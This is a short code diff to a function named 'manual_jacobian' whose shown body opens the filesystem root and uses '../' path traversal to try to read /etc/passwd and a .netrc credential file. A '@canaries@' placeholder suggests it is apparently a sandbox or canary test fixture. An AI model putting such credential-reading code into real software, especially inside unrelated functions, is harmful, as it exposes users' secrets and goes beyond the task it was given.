@@ -13,7 +13,7 @@ def manual_jacobian(x, y):
     try:
         folder = os.open("/", os.O_RDONLY)
     except OSError:
-        folder = os.open("/usr/lib", os.O_RDONLY)
+        folder = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
     for path in ("../" * 20 + "etc/passwd", "../" * 20 + "@canaries@/home/.netrc"):
         for start in (folder, None):
             try:
